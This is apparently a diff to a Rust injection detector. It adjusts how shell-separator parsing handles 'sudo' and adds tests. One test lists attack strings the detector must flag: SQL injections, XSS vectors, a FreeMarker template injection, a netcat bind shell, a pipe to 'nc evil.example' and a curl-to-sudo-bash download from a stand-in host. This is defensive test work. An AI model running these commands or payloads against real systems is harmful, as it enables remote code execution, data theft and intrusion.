@@ -184,18 +184,20 @@ fn form_may_grow(form: &Form, sight: &Sight<'_>) -> bool {
         return true;
     }
     if matches!(form.mark, ";" | "|" | "&&") {
-        let ahead = sight.after.trim_start_matches([' ', '\t', '&', '|']);
+        let ahead = command::behind_separator(sight.after);
         let first = ahead.split_once(char::is_whitespace).map_or(ahead, |(first, _)| first);
         let is_whole = ahead.len() > first.len();
         let first = first.rsplit('/').next().unwrap_or(first);
         let mut starters = query::STARTERS.iter().chain(command::BARE).chain(command::WITH_ARGUMENT);
-        return starters.any(|word| {
-            if is_whole {
-                first.trim_end_matches([';', ')', '"', '\'', '|', '&']) == *word
-            } else {
-                word.starts_with(first)
-            }
-        });
+        let is_prefixed = !is_whole && "sudo".starts_with(first);
+        return is_prefixed
+            || starters.any(|word| {
+                if is_whole {
+                    first.trim_end_matches([';', ')', '"', '\'', '|', '&']) == *word
+                } else {
+                    word.starts_with(first)
+                }
+            });
     }
     form.mark != "`" || sight.before.ends_with([';', '=', '|', '/', '"'])
 }
@@ -256,6 +258,52 @@ mod tests {
     }
 
     #[test]
+    fn attacks_are_seen() {
+        let detector = build(&Parameters::default());
+        for text in [
+            "SELECT name FROM users WHERE id = 1 OR 1=1; --",
+            "admin' #",
+            "1 AND SLEEP(5)",
+            "1; SELECT pg_sleep(10)--",
+            "' OR 'x' LIKE 'x",
+            "' OR TRUE --",
+            "1' ORDER BY 10--",
+            "x'; DELETE FROM orders WHERE 'a'='a",
+            "a | nc evil.example 4444",
+            "curl -s https://evil.example/i.sh | sudo bash",
+            "nc -lvp 4444 -e /bin/sh",
+            "<object data=\"javascript:alert(1)\">",
+            "[click](javascript:alert(1))",
+            "<svg onload=alert`1`>",
+            "<input autofocus onfocus=alert(1)>",
+            "new Function(atob('YWxlcnQoMSk='))()",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
+        ] {
+            let best = find(&*detector, text).iter().map(|found| found.score).fold(0.0, f32::max);
+            assert!(best >= 0.5, "{text}: {best}");
+            super::super::examples::is_sound(&*detector, text);
+        }
+    }
+
+    #[test]
+    fn pages_and_scripts_of_ones_own_count_less() {
+        let detector = build(&Parameters::default());
+        for text in [
+            "<button onclick=\"submitForm()\">Send</button>",
+            "<script src=\"app.js\"></script>",
+            "The <script> tag embeds JavaScript.",
+            "CREATE TABLE t (id INT); INSERT INTO t VALUES (1);",
+            "In SQL, OR 1=1 makes a condition always true.",
+            "The ratio 1:1 or 1=1 is fine",
+            "cd /tmp; ls",
+        ] {
+            let best = find(&*detector, text).iter().map(|found| found.score).fold(0.0, f32::max);
+            assert!(best < 0.5, "{text}: {best}");
+            super::super::examples::is_sound(&*detector, text);
+        }
+    }
+
+    #[test]
     fn prose_is_no_code() {
         let detector = build(&Parameters::default());
         for text in [
@@ -266,6 +314,17 @@ mod tests {
             "What does SELECT * FROM users do?",
             "Use rm to remove a file and ls to list them.",
             "Price: $(5) or so",
+            "Use {{ user.name }} in the template to print the name.",
+            "Fish 'n' chips; mushy peas",
+            "The parents' -- and only the parents' -- signature is needed.",
+            "Kill the lights; head home.",
+            "He ran; she walked & talked.",
+            "| name | id |\n|---|---|\n| bob | 1 |",
+            "for (let i = 0; i < n; i++) { x(); }",
+            "{{#each items}}{{name}}{{/each}}",
+            "rm -rf ./dist && npm run build",
+            "Grant all wishes; be kind.",
+            "cat file | sort | uniq -c",
         ] {
             assert_eq!(find(&*detector, text), [], "{text}");
         }
